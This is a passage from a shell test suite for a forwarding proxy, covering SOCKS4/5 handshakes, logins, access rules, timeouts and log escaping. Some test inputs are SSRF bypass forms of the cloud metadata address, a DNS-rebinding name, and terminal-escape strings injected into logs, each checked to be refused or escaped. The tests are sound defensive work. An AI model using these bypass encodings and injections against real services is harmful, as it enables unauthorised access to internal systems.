	refuses 'example\.com' -l :0 -a from:10.0.0.0/8 -a example.com
	refuses '-a from:[^ ,]*,(to:)?example\.com' -l :0 -a from:10.0.0.0/8 -a example.com
	refuses 'port:443' -l :0 -a port:443
	refuses 'not:from:' -l :0 -a not:from:10.0.0.0/8
	refuses '-a|-u|from' -l :0 -d from:10.0.0.0/8
	refuses '-a|-u|from' -l :0 -f -r /=200
}

test_a_limited_proxy_may_listen_on_every_interface() {
	for limit in '-a from:private' '-a from:private,to:example.com -a from:10.0.0.0/8' '-u bob:secret' '-a all' '-a user:bob -u bob:x'; do
		start_as -q -l :0 $limit
		stop
	done
	start_as -q -l :0 -r /=200
}

test_a_name_that_does_not_resolve_is_502() {
	forward -t connect=3
	began=$(now)
	like "$(code -x "$url" "http://nothing.invalid/")" '^50[24]$'
	like "$(connect_code -x "$url" "http://nothing.invalid:443/")" '^50[24]$'
	[ $(($(now) - began)) -lt 9 ] || fail "it took $(($(now) - began)) s"
}

test_a_port_that_refuses_is_502_at_once() {
	free=$("$peer" port)
	start
	is "$(code -m 3 -x "$url" "http://127.0.0.1:$free/")" 502
	is "$(connect_code -m 3 -x "$url" "http://127.0.0.1:$free/")" 502
	start -r "http://127.0.0.1:$free"
	is "$(code -m 3 "$url")" 502
}

test_an_address_that_never_answers_is_504_and_delays_nobody() {
	[ "$(uname)" = Linux ] || skip "a full queue drops connections on Linux"
	helper full
	full=$said
	forward -t connect=1
	code -x "$url" "http://127.0.0.1:$full/" >slow_code & slow_one=$!
	for i in 1 2 3; do
		is "$(code -m 1 -x "$url" "http://127.0.0.1:$inner/")" 200
	done
	gone $slow_one && fail "it was over too soon: $(cat slow_code)"
	wait $slow_one
	is "$(cat slow_code)" 504
}

test_addresses_of_a_name_are_tried_in_turn() {
	printf '::1 both.test\n127.0.0.1 both.test\n127.0.0.9 both.test\n' >hosts
	with_file hosts /etc/hosts
	forward -a to:127.0.0.0/8 -a to:::1/128
	is "$(code -m 5 -x "$url" "http://both.test:$inner/")" 200
}

test_a_dead_name_server_stalls_nobody() {
	[ "$(uname)" = Linux ] || skip "needs Linux"
	printf 'nameserver 127.9.9.9\noptions timeout:5 attempts:2\n' >resolv
	with_file resolv /etc/resolv.conf
	helper deaf 127.9.9.9
	forward -t connect=2
	for i in 1 2 3 4 5 6 7 8; do
		code -x "$url" "http://name$i.example/" >"slow.$i" &
	done
	for i in 1 2 3; do
		is "$(code -m 2 -x "$url" "http://localhost:$inner/")" 200
		is "$(code -m 2 -x "$url" "http://127.0.0.1:$inner/")" 200
	done
	for i in 1 2 3 4 5 6 7 8; do
		wait_for test -s "slow.$i" || fail "no answer for name$i"
		like "$(cat "slow.$i")" '^50[34]$'
	done
}

test_forward_refuses_what_it_cannot_serve() {
	start
	for target in wss://h.example/ ftp://h.example/ http://u:p@h.example/ http:///x http://:80/ http://h.example:0/ http://h.example:99999/ /x; do
		like "$(talk "$port" "send:GET $target HTTP/1.1\r\nHost: h.example\r\nConnection: close\r\n\r\n" rest | head -n 1)" '^HTTP/1\.1 4[0-9][0-9] ' "answer for $target"
	done
	for target in h.example h.example: :443 h.example:0 h.example:99999 http://h.example:443/ h.example:443/x; do
		like "$(talk "$port" "send:CONNECT $target HTTP/1.1\r\nHost: h.example\r\n\r\n" rest | head -n 1)" '^HTTP/1\.1 400 ' "answer for CONNECT $target"
	done
}

test_a_dot_segment_in_forward_mode_passes_unless_a_rule_must_read_it() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	start
	is "$(code --path-as-is -x "$url" "http://127.0.0.1:$origin/a/../%62")" 200
	like "$(cat "got$m.1")" '^GET /a/\.\./%62 HTTP/1\.1'
	start -d /private
	is "$(code --path-as-is -x "$url" "http://127.0.0.1:$origin/a/../b")" 403
}

test_many_that_wait_for_one_name_all_get_their_answer() {
	printf '127.0.0.1 localhost\n127.0.0.1 local.test\n' >hosts
	with_file hosts /etc/hosts
	nobody=$("$peer" port)
	start -a to:127.0.0.0/8
	for i in 1 2 3 4 5 6; do
		curl -q -s -m 10 -o "answer.$i" -w '%{http_code}\n' -x "$url" "http://local.test:$nobody/" >"code.$i" &
	done
	wait_for answered_all
	is "$(cat code.* | sort -u)" 502 'the status of each'
	answers_by() { [ "$(curl -q -s -m 5 -o body -w '%{http_code}' -x "$url" http://local.test:1/)" = 502 ]; }
	answers_by || fail 'it serves nobody afterwards'
}
answered_all() { [ "$(cat code.* 2>/dev/null | wc -l)" = 6 ]; }

# ---- forward: SOCKS ----

octet() { printf '\\x%02x' "$1"; }
octets16() { octet $(($1 / 256)); octet $(($1 % 256)); }
zeros() { awk -v n="$1" 'BEGIN { while (n-- > 0) printf "\\x00" }'; }
named() { octet 3; octet ${#1}; printf %s "$1"; }  # a name as an address of SOCKS5
here='\x01\x7f\x00\x00\x01'                        # 127.0.0.1
no_login='\x05\x01\x00'
login() { printf '\\x01'; octet ${#1}; printf %s "$1"; octet ${#2}; printf %s "$2"; }
socks5() {  # ADDRESS PORT [COMMAND]: the number a SOCKS5 client without a login gets in reply
	talk "$port" "send:$no_login" take:2 "send:\x05${3:-\x01}\x00$1$(octets16 "$2")" take:10 >socks.got 2>socks.complaint
	od -An -tu1 -j3 -N1 socks.got | tr -d ' '
}
socks4() {  # ADDRESS PORT [NAME] [COMMAND]: the same for SOCKS4, 4a with a name
	talk "$port" "send:\x04${4:-\x01}$(octets16 "$2")${1#????}someone\x00${3:+$3\x00}" take:8 >socks.got 2>socks.complaint
	od -An -tu1 -j1 -N1 socks.got | tr -d ' '
}
socks_hears() { talk "$port" "$@" 2>/dev/null | od -An -v -tx1 | tr -d ' \n'; }  # what a client gets, in hex
refused_socks() { code "$@" >code.socks && fail "curl $* succeeds with $(cat code.socks)"; [ $? != 28 ] || fail "curl $* waits in vain"; }

test_curl_reaches_a_server_by_socks_of_every_version() {
	start -r /=echo
	inner=$port
	start_logged --log-format combined
	for way in socks5 socks5-hostname socks4 socks4a; do
		is "$(code --$way "127.0.0.1:$port" -H 'X-Mine: 1' -d content "http://127.0.0.1:$inner/$way?q")" 200 "status by $way"
		is "$(member target) $(member content) $(field Via)$(field X-Forwarded-For)$(field Forwarded)" "/$way?q content " "the request by $way"
	done
	for way in socks5-hostname socks4a; do
		is "$(code --$way "127.0.0.1:$port" "http://localhost:$inner/")" 200 "status by $way and a name"
	done
	logged 6
	is "$(grep -c "\"CONNECT 127\.0\.0\.1:$inner HTTP/1\.1\" 200 " log)" 4 "number of lines for the address in $(cat log)"
	is "$(grep -c "\"CONNECT localhost:$inner HTTP/1\.1\" 200 " log)" 2 "number of lines for the name in $(cat log)"
	is "$(code -x "$url" "http://127.0.0.1:$inner/plain")" 200 'status of a plain request at the same listener'
}

test_socks5_reaches_an_ipv6_address() {
	have_ipv6
	start_as -q -l '[::1]:0' -r /=200:six
	inner=$port
	start_logged --log-format combined
	is "$(get -g --socks5 "127.0.0.1:$port" "http://[::1]:$inner/")" six
	logged
	has "$(cat log)" "\"CONNECT [::1]:$inner HTTP/1.1\" 200"
	start_as -q -l '[::1]:0' -f -r /=200
	is "$(get -g --socks5-hostname "[::1]:$port" "http://[::1]:$inner/")" six 'through a listener with IPv6'
}

test_socks_clients_log_in_with_a_name_and_a_password() {
	start -r /=200:in
	inner=$port
	start_logged --log-format combined -u bob:secret -u eve:other
	for way in socks5 socks5-hostname; do
		is "$(get --$way "127.0.0.1:$port" -U bob:secret "http://127.0.0.1:$inner/")" in
	done
	logged 2
	is "$(grep -c "^127\.0\.0\.1 - bob .*\"CONNECT 127\.0\.0\.1:$inner HTTP/1\.1\" 200 " log)" 2 'number of lines with the user'
	for login in bob:wrong bob: bob:secret2 bo:secret :secret eve:secret; do
		refused_socks --socks5 "127.0.0.1:$port" -U "$login" "http://127.0.0.1:$inner/"
	done
	refused_socks --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/"
	for way in socks4 socks4a; do
		refused_socks --$way "127.0.0.1:$port" "http://127.0.0.1:$inner/"
		refused_socks --$way "bob@127.0.0.1:$port" "http://127.0.0.1:$inner/"
	done
	is "$(socks_hears "send:$no_login" rest)" 05ff 'what a client without a login hears'
	is "$(socks_hears 'send:\x05\x02\x00\x02' take:2 "send:$(login bob wrong)" rest)" 05020101 'what a client with a wrong login hears'
	is "$(socks_hears 'send:\x05\x02\x00\x02' take:2 "send:$(login bob secret)" take:2 shut rest)" 05020100 'what a client with the right login hears'
	wait_for grep -q '" 407 ' log || fail "no 407 in $(cat log)"
	hasnt "$(grep '" 200 ' log)" eve 'what succeeded'
	is "$(grep -c '" 200 ' log)" 2 'number of lines with 200'
	is "$(code -x "$url" -U bob:secret "http://127.0.0.1:$inner/")" 200 'the same login by HTTP; it'
}

test_socks_logins_may_be_of_255_octets() {
	start -r /=200:in
	inner=$port
	long=$(head -c 255 /dev/zero | tr '\0' u)
	pass=$(head -c 255 /dev/zero | tr '\0' p)
	start -u "$long:$pass" -u "kurz:a:b c@%"
	is "$(socks_hears 'send:\x05\x01\x02' take:2 "send:$(login "$long" "$pass")" take:2 shut rest)" 05020100 'with both of 255 octets; it'
	is "$(socks_hears 'send:\x05\x01\x02' take:2 "send:$(login "$long" "${pass%p}q")" rest)" 05020101
	is "$(socks_hears 'send:\x05\x01\x02' take:2 "send:$(login kurz 'a:b c@%')" take:2 shut rest)" 05020100 'with odd characters; it'
	is "$(socks_hears 'send:\x05\x01\x02' take:2 'send:\x01\x00\x00' rest)" 05020101 'with empty ones; it'
}

test_socks_replies_tell_what_happened() {
	[ "$(uname)" = Linux ] || skip "a full queue drops connections on Linux"
	printf '127.0.0.1 localhost rebind.test\n' >hosts
	with_file hosts /etc/hosts
	helper full
	full=$said
	closed=$("$peer" port)
	start -r /=200
	inner=$port
	start_logged --log-format '%>s %{why}x %U %m' -d to:denied.example -d port:1-9 -t connect=500ms
	while read -r want address to; do
		(is "$(socks5 "$address" "$to")" "$want" "reply for $address $to") || bad=1
	done <<-END
	0 $here $inner
	0 $(named localhost) $inner
	0 $(named LOCALHOST) $inner
	0 $(named 127.0.0.1) $inner
	2 $(named denied.example) 443
	2 $(named sub.denied.example) 443
	2 $here 7
	2 \\x01\\xa9\\xfe\\xa9\\xfe 80
	2 $(named 169.254.169.254) 443
	2 \\x01\\x00\\x00\\x00\\x00 $inner
	2 \\x01\\xe0\\x00\\x00\\x01 443
	2 \\x04$(zeros 10)\\xff\\xff\\xa9\\xfe\\xa9\\xfe 443
	2 \\x04\\xfe\\x80$(zeros 13)\\x01 443
	2 $(named rebind.test) $inner
	2 $here $port
	5 $here $closed
	6 $here $full
	8 \\x02\\x7f\\x00\\x00\\x01 443
	END
	for name in 0xa9fea9fe 2852039166 169.254.43518 0251.0376.0251.0376 ::ffff:169.254.169.254 '[::ffff:169.254.169.254]' 0; do
		(like "$(socks5 "$(named "$name")" "$inner")" '^[12]$' "reply for the name $name") || bad=1
	done
	(like "$(socks5 "$(named nothing.invalid)" 443)" '^[46]$' 'reply for a name that does not resolve') || bad=1
	for command in '\x02' '\x03' '\x04' '\x00' '\xff'; do
		(is "$(socks5 "$here" "$inner" "$command")" 7 "reply to command $command") || bad=1
		(is "$(socks4 "$here" "$inner" '' "$command")" 91 "reply to command $command of SOCKS4") || bad=1
	done
	(is "$(socks4 "$here" "$inner")" 90 'SOCKS4 reply') || bad=1
	(is "$(socks4 '\x01\x00\x00\x00\x07' "$inner" localhost)" 90 'SOCKS4a reply') || bad=1
	for refused in "$here 7" '\x01\xa9\xfe\xa9\xfe 80' '\x01\x00\x00\x00\x01 443 denied.example' "\\x01\\x00\\x00\\x00\\x01 $inner rebind.test" \
		"$here $port" "$here $closed" "$here $full" '\x01\x00\x00\x00\x01 443 nothing.invalid' "\\x01\\x00\\x00\\x00\\x00 $inner"; do
		(is "$(socks4 $refused)" 91 "SOCKS4 reply for $refused") || bad=1
	done
	[ -z "${bad-}" ] || exit 1
	for line in "502 connect-failed" "504 connect-late" "403 denied" "403 guarded" "403 rebinding" "508 own-listener" '50[24] name-(unknown|late)'; do
		wait_for grep -Eq "^$line .*CONNECT\$" log || fail "no '$line' in $(cat log)"
	done
}

test_socks_requests_are_judged_like_connect() {
	start -r /=200
	inner=$port
	while read -r want rules; do
		start $rules
		(is "$(socks5 "$here" "$inner")" "$want" "reply with $rules") || bad=1
		case $want in 0) want=90 ;; *) want=91 ;; esac
		(is "$(socks4 "$here" "$inner")" "$want" "SOCKS4 reply with $rules") || bad=1
		stop
	done <<-END
	2 -d method:CONNECT
	0 -d method:GET
	2 -a GET
	2 -d to:127.0.0.0/8
	0 -a to:127.0.0.1/32
	2 -a to:127.0.0.2/32
	2 -d port:$inner
	0 -a port:$inner
	2 -a port:443
	2 -d from:127.0.0.1
	0 -a from:127.0.0.0/8
	2 -d all
	0 -d header:User-Agent=*
	END
	[ -z "${bad-}" ] || exit 1
	start -u bob:x -u eve:y -d user:eve
	is "$(code --socks5 "127.0.0.1:$port" -U bob:x "http://127.0.0.1:$inner/")" 200
	is "$(socks_hears 'send:\x05\x01\x02' take:2 "send:$(login eve y)" take:2 "send:\x05\x01\x00$here$(octets16 "$inner")" take:10 shut rest | cut -c 1-12)" \
		050201000502 'what a user whom a rule denies hears'
	start -d from:127.0.0.1 --report-only
	is "$(socks5 "$here" "$inner")" 0 'reply with --report-only'
}

test_socks_off_loopback_reaches_port_443_only() {
	start -r /=200
	inner=$port
	start_as -q -l :0 -a from:private,to:127.0.0.1/32
	is "$(socks5 "$here" "$inner")" 2
	is "$(socks4 "$here" "$inner")" 91
	start_as -q -l :0 -a "from:private,to:127.0.0.1/32,port:$inner"
	is "$(socks5 "$here" "$inner")" 0
	is "$(socks4 "$here" "$inner")" 90
	start_as -q -l :0 -a from:private
	is "$(socks5 "$(named localhost)" 443)" 2 'reply for loopback, off loopback'
}

test_a_reverse_listener_does_not_speak_socks() {
	start_logged --log-format '%>s %{why}x' -r /=200
	like "$(talk "$port" "send:$no_login" rest | head -n 1)" '^HTTP/1\.1 400 '
	like "$(talk "$port" "send:\x04\x01\x01\xbb\x7f\x00\x00\x01\x00" shut rest | head -n 1)" '^HTTP/1\.1 400 '
	logged 2
	is "$(sort -u log)" '400 bad-request-line'
}

test_malformed_socks_is_closed_and_logged() {
	start -r /=200
	inner=$port
	start_logged --log-format '%>s %{why}x' -u bob:secret
	while read -r what; do
		talk "$port" $what rest >got 2>/dev/null
	done <<-END
	send:\\x05\\x01\\x02 take:2 send:\\x00\\x03bob\\x06secret
	send:\\x05\\x01\\x02 take:2 send:\\x05\\x03bob\\x06secret
	send:\\x05\\x01\\x02 take:2 send:$(login bob secret) take:2 send:\\x04\\x01\\x00$here\\x00\\x50
	send:\\x05\\x01\\x02 take:2 send:$(login bob secret) take:2 send:HEAD\\x20/\\x20HTTP/1.1\\r\\n\\r\\n
	END
	logged 4
	is "$(sort -u log)" '400 socks' 'the log'
	rm log
	start_logged --log-format '%>s %{why}x' -t head=1
	long=$(head -c 600 /dev/zero | tr '\0' x)
	count=0
	while read -r what; do
		talk "$port" $what rest >got 2>/dev/null
		count=$((count + 1))
		wait_for lines_in $count log || fail "not logged: $what"
		(like "$(tail -n 1 log)" '^(400|408) ' "the log after $what") || bad=1  # 408: the end never came
		(hasnt "$(od -An -v -tx1 got | tr -d ' \n')" 050000 'the reply to this') || bad=1
	done <<-END
	send:$no_login take:2 send:\\x04\\x01\\x00$here\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00\\x03\\x00\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00$(named 'a/b')\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00$(named 'a@b')\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00\\x03\\x03a\\x00b\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00\\x03\\x03a\\r\\x0a\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00$(named a:80)\\x00\\x50
	send:$no_login take:2 send:\\x05\\x01\\x00$here\\x00\\x00
	send:$no_login take:2 send:\\x05\\x01\\x00$(named localhost)\\x00\\x00
	send:\\x04\\x01\\x00\\x00\\x7f\\x00\\x00\\x01\\x00
	send:\\x04\\x01\\x00\\x50\\x7f\\x00\\x00\\x01$long$long
	send:\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01\\x00$long
	send:\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01\\x00\\x00
	send:\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01\\x00a/b\\x00
	send:\\x04\\x01\\x00\\x50\\x00\\x00\\x00\\x01\\x00\\xff\\xfe\\x00
	END
	[ -z "${bad-}" ] || exit 1
	grep -q '^400 socks$' log || fail "no reason socks in $(cat log)"
	is "$(socks5 "$here" "$inner")" 0 'reply to the next one'
}

test_a_socks_client_that_ends_early_disturbs_nobody() {
	start -r /=200
	inner=$port
	start
	whole="\x05\x01\x00$here$(octets16 "$inner")"
	for part in '\x05' '\x05\x02\x00' '\x04' '\x04\x01\x00\x50\x7f' '\x04\x01\x00\x50\x7f\x00\x00\x01ab' "$no_login" "$no_login\x05" \
		"$no_login\x05\x01\x00" "$no_login\x05\x01\x00\x03\x09local" "$no_login\x05\x01\x00\x01\x7f\x00\x00\x01\x00"; do
		talk "$port" "send:$part" shut rest >got || fail "not closed after $part"
		talk "$port" "send:$part" reset
	done
	talk "$port" "send:$no_login$whole" reset
	is "$(socks5 "$here" "$inner")" 0
	is "$(code -x "$url" "http://127.0.0.1:$inner/")" 200
}

test_socks_handshakes_in_split_octets_are_understood() {
	origin read:ping send:pong rest
	start -u bob:secret
	hex5=0502010005000001
	got=$(socks_hears 'drip:5:\x05\x02\x00\x02' take:2 "drip:5:$(login bob secret)" take:2 "drip:5:\x05\x01\x00$here$(octets16 "$origin")ping" read:pong)
	like "$got" "^${hex5}[0-9a-f]{12}706f6e67\$" 'what a client of SOCKS5 gets'
	got=$(socks_hears "drip:5:\x05\x01\x02$(login bob secret)\x05\x01\x00$(named localhost)$(octets16 "$origin")ping" read:pong)
	like "$got" "^${hex5}[0-9a-f]{12}706f6e67\$" 'what a client of SOCKS5 that does not wait gets'
	start
	got=$(socks_hears "drip:5:\x04\x01$(octets16 "$origin")\x7f\x00\x00\x01me\x00ping" read:pong)
	like "$got" '^005a[0-9a-f]{12}706f6e67$' 'what a client of SOCKS4 gets'
	got=$(socks_hears "drip:5:\x04\x01$(octets16 "$origin")\x00\x00\x00\x09\x00localhost\x00ping" read:pong)
	like "$got" '^005a[0-9a-f]{12}706f6e67$' 'what a client of SOCKS4a gets'
}

test_a_slow_socks_handshake_ends_in_time() {
	start_logged --log-format '%>s %{why}x' -t head=500ms -u bob:secret
	for what in 'send:\x05' 'send:\x05\x01\x02 take:2' 'drip:200:\x05\x08\x00\x01\x02\x03\x04\x05\x06\x07' 'send:\x04\x01\x00' \
		'send:\x05\x01\x02 take:2 send:\x01\x03b' "send:\x05\x01\x02$(login bob secret) take:4 send:\x05\x01\x00\x03\x09loc"; do
		began=$(now)
		talk "$port" $what rest >got 2>/dev/null
		[ $(($(now) - began)) -le 3 ] || fail "it took $(($(now) - began)) s after $what"
	done
	logged 6
	is "$(sort -u log)" '408 head-late'
	start -t head=500ms
	origin nap:1000 send:late rest
	got=$(socks_hears "send:$no_login\x05\x01\x00$here$(octets16 "$origin")" read:late)
	has "$got" 6c617465 'what comes through a tunnel after the time for a head'
}

test_socks5_chooses_among_as_many_methods_as_there_can_be() {
	methods=$(awk 'BEGIN { for (i = 254; i >= 1; i--) if (i != 2) printf "\\x%02x", i }')
	start
	is "$(socks_hears "send:\x05\xff$methods\x02\x00" take:2 shut rest)" 0500
	is "$(socks_hears 'send:\x05\x03\x02\x01\x00' take:2 shut rest)" 0500
	is "$(socks_hears 'send:\x05\x01\x01' rest)" 05ff 'when only GSSAPI is offered; it'
	is "$(socks_hears "send:\x05\xfd$methods" rest)" 05ff 'when neither is among many; it'
	start -u bob:secret
	is "$(socks_hears "send:\x05\xff$methods\x00\x02" take:2 shut rest)" 0502
	is "$(socks_hears "send:\x05\xfe$methods\x00" rest)" 05ff 'when no login is offered; it'
}

test_socks_takes_names_of_every_length() {
	start -r /=200:x
	inner=$port
	start
	label=$(head -c 63 /dev/zero | tr '\0' l)
	name="$label.$label.$label.$(head -c 51 /dev/zero | tr '\0' l).localhost"
	is "${#name}" 253
	is "$(socks5 "$(named "$name")" "$inner")" 0 'reply for a name of 253 octets'
	is "$(socks4 '\x01\x00\x00\x00\x01' "$inner" "$name")" 90 'SOCKS4a reply for a name of 253 octets'
	is "$(socks5 "$(named x.localhost)" "$inner")" 0
	for long in "$(head -c 255 /dev/zero | tr '\0' l)" "$label.$label.$label.$label"; do
		reply=$(socks5 "$(named "$long")" "$inner")
		[ "$reply" != 0 ] || fail "a name of ${#long} octets is connected to"
	done
	is "$(socks5 "$(named localhost)" "$inner")" 0 'the next reply'
}

test_octets_after_a_socks_request_and_half_closes_pass() {
	origin read:early send:late rest send:after-eof
	start
	for request in "$no_login\x05\x01\x00$here$(octets16 "$origin")" "\x04\x01$(octets16 "$origin")\x7f\x00\x00\x01\x00"; do
		talk "$port" "send:${request}early" read:late shut read:after-eof rest >got || fail "the octets do not pass: $(od -c got)"
	done
	origin 'send:SSH-2.0-first\r\n' rest
	talk "$port" "send:$no_login" take:2 "send:\x05\x01\x00$here$(octets16 "$origin")" 'read:SSH-2.0-first\r\n' >got ||
		fail 'a server that speaks first is not heard'
	origin mirror
	talk "$port" "send:$no_login" take:2 "send:\x05\x01\x00$here$(octets16 "$origin")" take:10 \
		'send:\0\x01\xff\x80\r\nGET / HTTP/1.1\r\n\r\n\x05\x01\x00' 'read:\0\x01\xff\x80\r\nGET / HTTP/1.1\r\n\r\n\x05\x01\x00' >got ||
		fail 'the octets did not come back'
}

big_file() {  # $1 MiB, slow ones a GiB, as the file big; a proxy serves it at port $inner; its sum is $want
	need sha256sum
	octets=$(($1 * 1048576))
	[ -z "$slow" ] || octets=1073741824
	head -c $octets /dev/urandom >big
	want=$(sha256sum <big)
	start -r file:big
	inner=$port
}
uploads() {  # an origin that keeps what is sent to it as the file up
	origin head "save:$octets:up" 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
}

test_files_pass_by_socks_unchanged() {
	big_file 32
	start
	socks=127.0.0.1:$port
	is "$(get -m 300 --socks5 "$socks" "http://127.0.0.1:$inner/" | sha256sum)" "$want" 'download, SOCKS5'
	is "$(get -m 300 --socks4a "$socks" "http://localhost:$inner/" | sha256sum)" "$want" 'download, SOCKS4a'
	uploads
	is "$(code -m 300 -H Expect: -T big --socks5-hostname "$socks" "http://localhost:$origin/")" 200
	is "$(sha256sum <up)" "$want" 'upload, SOCKS5'
}

test_socks_counts_for_limits_expectations_and_n() {
	start -r /=200:x
	inner=$port
	start --max per-client=1
	helper hold "$port" 1
	[ "$(socks5 "$here" "$inner")" != 0 ] || fail 'one more than --max per-client= is served'
	start --expect 2,method:CONNECT,status:200 --expect 1,to:127.0.0.1/32,status:502 -n 3
	is "$(socks5 "$here" "$inner")" 0
	is "$(socks4 "$here" "$inner")" 90
	is "$(socks5 "$here" "$("$peer" port)")" 5
	exits 0
	start -t tunnel=500ms
	talk "$port" "send:$no_login\x05\x01\x00$here$(octets16 "$inner")" rest >got || fail 'an idle tunnel stays'
}

sshd_up() {  # a server of ours on port $sshd, to which $ssh NAME logs in
	sshd=$(PATH=$PATH:/usr/sbin:/usr/local/sbin command -v sshd) || skip 'no sshd here'
	need ssh ssh-keygen
	ssh-keygen -q -t ed25519 -N '' -f host && ssh-keygen -q -t ed25519 -N '' -f mine || skip 'ssh-keygen makes no keys here'
	cp mine.pub authorized
	free=$("$peer" port)
	cat >sshd.conf <<-END
	ListenAddress 127.0.0.1:$free
	HostKey $PWD/host
	AuthorizedKeysFile $PWD/authorized
	PidFile none
	StrictModes no
	PasswordAuthentication no
	KbdInteractiveAuthentication no
	PermitRootLogin yes
	UseDNS no
	END
	echo 'mount -t tmpfs none /run && mkdir /run/sshd && exec "$@"' >sshd.sh  # which it wants when root runs it
	[ "$(id -u)" != 0 ] || [ -d /run/sshd ] || set -- unshare -m sh sshd.sh
	"$@" "$sshd" -D -e -f "$PWD/sshd.conf" 2>sshd.err &
	helpers="$helpers $!"
	sshd=$free
	up() { "$peer" talk "$sshd" 2>/dev/null; }
	wait_for up || skip "sshd does not start here: $(tail -n 1 sshd.err)"
	ssh="ssh -F none -i $PWD/mine -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=$PWD/known -o LogLevel=ERROR -p $sshd"
	[ "$($ssh 127.0.0.1 echo in 2>ssh.err)" = in ] || skip "nobody may log in by ssh here: $(cat ssh.err)"
}

test_ssh_and_nc_pass_by_socks_and_connect() {
	need sha256sum nc
	nc -h 2>&1 | grep -q -e -X || skip 'nc without -X here'
	sshd_up
	start
	head -c 3000000 /dev/urandom >big
	for way in 5 4 connect; do
		is "$($ssh -o "ProxyCommand=nc -X $way -x 127.0.0.1:$port %h %p" 127.0.0.1 sha256sum <big)" "$(sha256sum <big)" "what ssh moves by nc -X $way"
		is "$($ssh -o "ProxyCommand=nc -X $way -x 127.0.0.1:$port %h %p" 127.0.0.1 cat "$PWD/big" | sha256sum)" "$(sha256sum <big)" "what ssh fetches by nc -X $way"
	done
}

test_socks_is_spoken_at_a_unix_socket_and_by_all_workers() {
	start -r /=200:x
	inner=$port
	start_as -q -l unix:front -f
	port=unix:front
	is "$(socks5 "$here" "$inner")" 0
	is "$(socks4 '\x01\x00\x00\x00\x01' "$inner" localhost)" 90
	start_workers
	for i in 1 2 3 4 5 6 7 8 9 10 11 12; do is "$(get --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/")" x; done
	logged 12
	is "$(distinct)" 2 'number of processes that served'
}

test_socks_requests_are_in_the_logs_and_escaped() {
	need jq
	start -r /=200:x
	inner=$port
	start_logged --log-format json -u bob:secret
	is "$(code --socks5 "127.0.0.1:$port" -U bob:secret "http://127.0.0.1:$inner/")" 200
	logged 1  # a tunnel is logged when it has ended
	talk "$port" 'send:\x05\x01\x02' take:2 "send:$(login bob secret)" take:2 'send:\x05\x01\x00\x03\x05a"b\x1b[\x00\x50' rest >got 2>complaint
	talk "$port" 'send:\x05\x01\x02' take:2 'send:\x01\x05\x1b[2J"\x02\xff\x0a' rest >got
	talk "$port" 'send:\x04\x01\x00\x50\x00\x00\x00\x01\x1b[2J"\x0a\x00h.invalid\x00' rest >got
	logged 4
	jq -s . log >parsed || fail "it is no JSON: $(cat log)"
	grep -n '[^ -~]' log && fail 'raw octets in the log'
	is "$(jq -c '[.method, .target, .version, .status, .user, .host, .why]' log | sed -n 1p)" "[\"CONNECT\",\"127.0.0.1:$inner\",\"SOCKS5\",200,\"bob\",\"127.0.0.1\",null]"
	jq -s -e 'first | .octets > 0 and .upstream != null and .total_ms >= .connect_ms' log >/dev/null || fail "numbers of $(sed -n 1p log)"
	is "$(jq .status log | sed -n '3,4p' | tr '\n' ' ')" '407 407 '
	need goaccess
	start_as -l 0 -o combined --log-format combined
	is "$(code --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/")" 200
	is "$(socks5 "$(named denied.invalid)" 99)" 4
	talk "$port" 'send:\x04\x01\x00\x50\x00\x00\x00\x01\x00\x1b\x0a\x00' rest >got
	wait_for lines_in 3 combined
	goaccess combined --log-format=COMBINED --no-global-config -o report.json >complaints 2>&1 || fail "$(cat complaints)"
	has "$(jq '.general | "\(.valid_requests + .failed_requests)"' report.json)" 3 'what goaccess reads'
}

test_what_passes_in_a_tunnel_is_said_once_not_to_be_shown() {
	start -r /=200:x
	inner=$port
	start -v
	may_say .
	is "$(code --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/")" 200
	is "$(code -p -x "$url" "http://127.0.0.1:$inner/")" 200
	is "$(code --socks4 "127.0.0.1:$port" "http://127.0.0.1:$inner/")" 200
	stop
	is "$(grep -c '^proxy: -v: what passes in a tunnel is not shown\(; -M DIR reads it\)*$' "err.$n")" 1 "number of hints in $(cat "err.$n"): it"
	start -v -r "http://127.0.0.1:$inner"
	answers 200 "$url"
	stop
	hasnt "$(cat "err.$n")" tunnel
}

# ---- forward: parents (-x) ----

ok_empty='send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'
through() { code -x "$url" "$@"; }  # a plain request through the proxy
tunnel() { code -p -x "$url" "$@"; }
both() {  # plain, by CONNECT, by SOCKS5 and SOCKS4a, content and all, to $inner, through the proxy and what is behind it
	is "$(through -d content "http://127.0.0.1:$inner/plain?q")" 200 'status of a plain request'
	is "$(member target) $(member content)" '/plain?q content'
	is "$(tunnel -d content "http://127.0.0.1:$inner/tunnel")" 200 'status through a tunnel'
	is "$(member target) $(member content)$(field Via)" '/tunnel content'
	for way in socks5-hostname socks4a; do
		is "$(code --$way "127.0.0.1:$port" -d content "http://127.0.0.1:$inner/$way")" 200 "status by $way"
		is "$(member target) $(member content)$(field Via)" "/$way content"
	done
}
parent_got() { tr -d '\r' <"got$m.$1" >./head; }  # for header: what connection N brought
connect_head() { printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' "$1" "$1"; }

test_an_http_parent_gets_plain_requests_in_absolute_form() {
	origin head "$ok_empty" again
	start -x "http://127.0.0.1:$origin"
	is "$(through -H 'X-Mine: 1' "http://nothing.invalid/a/b?c=d")" 200
	is "$(through "http://nothing.invalid:8080/")" 200
	is "$(head -n 1 "got$m.1" | tr -d '\r')" 'GET http://nothing.invalid/a/b?c=d HTTP/1.1'
	parent_got 1
	is "$(header Host)" 'nothing.invalid
nothing.invalid:8080'
	is "$(header X-Mine)" 1
